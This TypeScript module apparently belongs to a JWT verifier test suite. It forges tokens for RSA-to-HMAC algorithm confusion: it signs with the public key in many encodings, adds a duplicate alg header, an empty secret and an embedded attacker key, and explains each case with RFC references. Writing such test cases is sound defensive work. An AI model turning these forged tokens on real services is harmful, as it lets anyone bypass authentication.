import { encodeBase64 } from "../../encoding/base64url.ts";
import { pem } from "../../keys/pem.ts";
import { encodePart, seal } from "../compact.ts";
import { type Bytes, concat, pkcs1, spki, utf8 } from "../der.ts";
import { decoded } from "../signing-key.ts";
import { type Attacks, withMembers } from "./forge.ts";

/**
 * Algorithm confusion (RFC 8725 section 2.1): the secret of the HMAC is the public key, which anyone can
 * read. Which form of the key works depends on how the guard stores it.
 */
export const hmacAttacks: Attacks = async function* ({ header, claims, certs, key }) {
  const { n, e, kid } = key.publicJwk;
  const modulus = decoded(n);
  const exponent = decoded(e);
  const spkiDer = spki(modulus, exponent);
  const pkcs1Der = pkcs1(modulus, exponent);
  const spkiPem = pem("PUBLIC KEY", spkiDer);
  const pkcs1Pem = pem("RSA PUBLIC KEY", pkcs1Der);
  const certificateBase64 = key.certificate.replace(/-----[^-]+-----|\n/g, "");
  const spellings: readonly (readonly [name: string, secret: Bytes | string, what: string])[] = [
    ["jwk-json", JSON.stringify(key.publicJwk), "the JWK as published"],
    ["jwk-members", JSON.stringify({ e, kty: "RSA", n }), "the JWK in the form of its thumbprint"],
    ["jwks-json", JSON.stringify(certs), "the whole JWK set"],
    ["spki-der", spkiDer, "the key as SPKI in DER"],
    ["spki-base64", encodeBase64(spkiDer), "the key as SPKI in base64"],
    ["spki-pem", spkiPem, "the key as SPKI in PEM"],
    ["spki-pem-no-newline", spkiPem.trimEnd(), "the key as SPKI in PEM without the last newline"],
    ["spki-pem-crlf", spkiPem.replaceAll("\n", "\r\n"), "the key as SPKI in PEM with CRLF"],
    ["pkcs1-der", pkcs1Der, "the key as PKCS #1 in DER"],
    ["pkcs1-pem", pkcs1Pem, "the key as PKCS #1 in PEM"],
    ["pkcs1-pem-no-newline", pkcs1Pem.trimEnd(), "the key as PKCS #1 in PEM, no last newline"],
    ["modulus", modulus, "the bytes of the modulus"],
    ["modulus-signed", concat(Uint8Array.of(0), modulus), "a zero byte and the modulus"],
    ["modulus-base64url", n, "the modulus in base64url, as in the JWK"],
    ["certificate-pem", key.certificate, "the certificate in PEM"],
    ["certificate-base64", certificateBase64, "the certificate in base64, as in x5c"],
    ["kid", kid, "the key's own kid"],
  ];
  for (const [name, secret, what] of spellings) {
    yield {
      name: `hmac-${name}`,
      token: await seal({ ...header, alg: "HS256" }, claims, hmac("SHA-256", secret)),
      why: `An HMAC whose secret is public: ${what}. A guard that uses the key as alg says accepts a token that anyone can make (RFC 8725 sections 2.1 and 3.1).`,
    };
  }
  for (const [alg, hash] of [
    ["HS384", "SHA-384"],
    ["HS512", "SHA-512"],
  ] as const) {
    yield {
      name: `hmac-${alg.toLowerCase()}-spki-pem`,
      token: await seal({ ...header, alg }, claims, hmac(hash, spkiPem)),
      why: `The same attack with ${alg}: a guard must allow only RS256, because a list of forbidden names is never complete (RFC 8725 section 3.1).`,
    };
  }
  yield {
    name: "hmac-behind-rs256",
    token: await seal(withMembers(header, '"alg":"HS256"'), claims, hmac("SHA-256", spkiPem)),
    why: "The header has alg twice, first RS256 and then HS256. A guard must reject duplicates or use the last one (RFC 7515 section 4). In both cases it is not signed with RS256.",
  };
  yield {
    name: "hmac-empty-secret",
    // WebCrypto imports no empty key. HMAC pads with zeros, so one zero byte is the same (RFC 2104 section 2).
    token: await seal({ ...header, alg: "HS256" }, claims, hmac("SHA-256", Uint8Array.of(0))),
    why: "An HMAC with an empty secret: a missing key often becomes one (RFC 8725 sections 3.1 and 3.5).",
  };
  const oct = { kty: "oct", k: encodePart("attacker") };
  yield {
    name: "hmac-embedded-secret",
    token: await seal({ ...header, alg: "HS256", jwk: oct }, claims, hmac("SHA-256", "attacker")),
    why: "An HMAC with its secret in its own header. The sender would choose the key (RFC 7515 section 4.1.3, RFC 8725 section 3.1).",
  };
};

export function hmac(hash: string, secret: Bytes | string): (input: Bytes) => Promise<Bytes> {
  return async (input) => {
    const bytes = typeof secret === "string" ? utf8(secret) : secret;
    const how = { name: "HMAC", hash };
    const key = await crypto.subtle.importKey("raw", bytes, how, false, ["sign"]);
    return new Uint8Array(await crypto.subtle.sign("HMAC", key, input));
  };
}
